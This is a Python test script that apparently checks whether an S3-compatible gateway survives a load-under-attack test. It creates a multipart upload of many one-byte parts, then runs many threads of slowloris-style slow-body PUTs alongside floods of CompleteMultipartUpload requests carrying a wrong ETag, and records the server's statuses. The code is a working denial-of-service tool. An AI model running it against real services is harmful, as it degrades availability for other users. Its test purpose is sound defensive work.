#!/usr/bin/env python3
"""An authenticated user attacking a gateway's availability, for the load-under-attack test.

Usage:
  attack.py --endpoint URL setup  STATE.json --parts N
  attack.py --endpoint URL attack STATE.json --slow N --completes N --seconds S --out RESULT.json

Credentials come from AWS_ACCESS_KEY_ID / AWS_SECRET_ACCESS_KEY (the attacker's own user).

setup    creates a bucket and a multipart upload of N one-byte parts (16 threads), and writes
         to STATE.json the presigned URLs the attack uses (boto3 signs them; the attack
         threads then send raw HTTP, so the attacker's own CPU cost stays small):
         a CompleteMultipartUpload POST and a PutObject PUT.
attack   runs for S seconds, then reports:
         - N slow-body uploads: each opens a connection, sends a PUT announcing 1 MiB and then
           one byte a second, and starts over when the gateway answers or closes;
         - N Completes in a loop, each listing all N parts with the last ETag wrong.
         It prints "attacking" (flushed) once every thread has started, and writes RESULT.json:
         {"statuses": {"slow": {status: count}, "complete": {status: count}},
          "server_errors": [...]} where a status is the HTTP status, "closed" (the gateway
         closed the connection without answering) or "error: ..." (a client-side failure).
"""

import argparse
import json
import socket
import sys
import threading
import time
import urllib.parse
from collections import Counter
from concurrent.futures import ThreadPoolExecutor

import boto3
from botocore.config import Config

BUCKET = "attack"
KEY = "big-upload"


def client(endpoint):
    config = Config(
        region_name="us-east-1",
        signature_version="s3v4",
        s3={"addressing_style": "path"},
        retries={"max_attempts": 3, "mode": "standard"},
        max_pool_connections=32,
    )
    return boto3.client("s3", endpoint_url=endpoint, config=config)


def setup(args):
    s3 = client(args.endpoint)
    s3.create_bucket(Bucket=BUCKET)
    upload_id = s3.create_multipart_upload(Bucket=BUCKET, Key=KEY)["UploadId"]

    def part(n):
        return s3.upload_part(Bucket=BUCKET, Key=KEY, UploadId=upload_id, PartNumber=n, Body=b"x")["ETag"]

    with ThreadPoolExecutor(16) as pool:
        etags = list(pool.map(part, range(1, args.parts + 1)))
    # The last ETag wrong: the gateway must refuse with InvalidPart without costing more than
    # the request's own size.
    etags[-1] = '"00000000000000000000000000000000"'
    body = "<CompleteMultipartUpload>" + "".join(
        f"<Part><PartNumber>{n}</PartNumber><ETag>{etag}</ETag></Part>" for n, etag in enumerate(etags, 1)
    ) + "</CompleteMultipartUpload>"
    complete_url = s3.generate_presigned_url(
        "complete_multipart_upload",
        Params={"Bucket": BUCKET, "Key": KEY, "UploadId": upload_id},
        HttpMethod="POST",
        ExpiresIn=3600,
    )
    put_url = s3.generate_presigned_url(
        "put_object", Params={"Bucket": BUCKET, "Key": "slow"}, HttpMethod="PUT", ExpiresIn=3600
    )
    with open(args.state, "w") as f:
        json.dump({"complete_url": complete_url, "complete_body": body, "put_url": put_url}, f)
    print(json.dumps({"parts": args.parts, "complete_body_bytes": len(body)}))


def split_url(url):
    u = urllib.parse.urlsplit(url)
    return u.hostname, u.port, u.path + "?" + u.query


def read_status(sock):
    """The status of the response on `sock`, or "closed"."""
    data = b""
    while b"\r\n" not in data:
        chunk = sock.recv(4096)
        if not chunk:
            return "closed"
        data += chunk
    return data.split(b" ", 2)[1].decode()


def slow_upload(url, deadline, tally):
    host, port, target = split_url(url)
    head = f"PUT {target} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Length: {1 << 20}\r\n\r\n".encode()
    while time.monotonic() < deadline:
        try:
            with socket.create_connection((host, port), timeout=10) as sock:
                sock.sendall(head)
                sock.settimeout(1.0)
                while time.monotonic() < deadline:
                    try:
                        sock.sendall(b"x")
                    except OSError:
                        pass  # the gateway gave up on the body; its answer may be waiting
                    try:
                        sock.settimeout(1.0)
                        status = read_status(sock)
                    except socket.timeout:
                        continue
                    except OSError:
                        status = "closed"
                    tally("slow", status)
                    break
        except OSError as e:
            tally("slow", f"error: {type(e).__name__}")
            time.sleep(0.5)


def complete_loop(url, body, deadline, tally):
    host, port, target = split_url(url)
    payload = body.encode()
    head = (
        f"POST {target} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Length: {len(payload)}\r\n"
        "Content-Type: application/xml\r\nConnection: close\r\n\r\n"
    ).encode()
    while time.monotonic() < deadline:
        try:
            with socket.create_connection((host, port), timeout=120) as sock:
                sock.sendall(head + payload)
                tally("complete", read_status(sock))
        except OSError as e:
            tally("complete", f"error: {type(e).__name__}")
            time.sleep(0.1)


def attack(args):
    with open(args.state) as f:
        state = json.load(f)
    counts = {"slow": Counter(), "complete": Counter()}
    lock = threading.Lock()

    def tally(kind, status):
        with lock:
            counts[kind][status] += 1

    deadline = time.monotonic() + args.seconds
    threads = [
        threading.Thread(target=slow_upload, args=(state["put_url"], deadline, tally), daemon=True)
        for _ in range(args.slow)
    ] + [
        threading.Thread(
            target=complete_loop, args=(state["complete_url"], state["complete_body"], deadline, tally), daemon=True
        )
        for _ in range(args.completes)
    ]
    for t in threads:
        t.start()
    print("attacking", flush=True)
    for t in threads:
        t.join(timeout=max(0.0, deadline - time.monotonic()) + 120)
    statuses = {kind: dict(c) for kind, c in counts.items()}
    server_errors = [
        f"{kind} {status} x{n}"
        for kind, c in counts.items()
        for status, n in c.items()
        if status.isdigit() and int(status) >= 500 and status != "503"
    ]
    with open(args.out, "w") as f:
        json.dump({"statuses": statuses, "server_errors": server_errors}, f)
    print(json.dumps(statuses))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--endpoint", required=True)
    sub = parser.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("setup")
    s.add_argument("state")
    s.add_argument("--parts", type=int, default=10000)
    a = sub.add_parser("attack")
    a.add_argument("state")
    a.add_argument("--slow", type=int, default=200)
    a.add_argument("--completes", type=int, default=64)
    a.add_argument("--seconds", type=float, default=40)
    a.add_argument("--out", required=True)
    args = parser.parse_args()
    {"setup": setup, "attack": attack}[args.cmd](args)


if __name__ == "__main__":
    sys.exit(main())
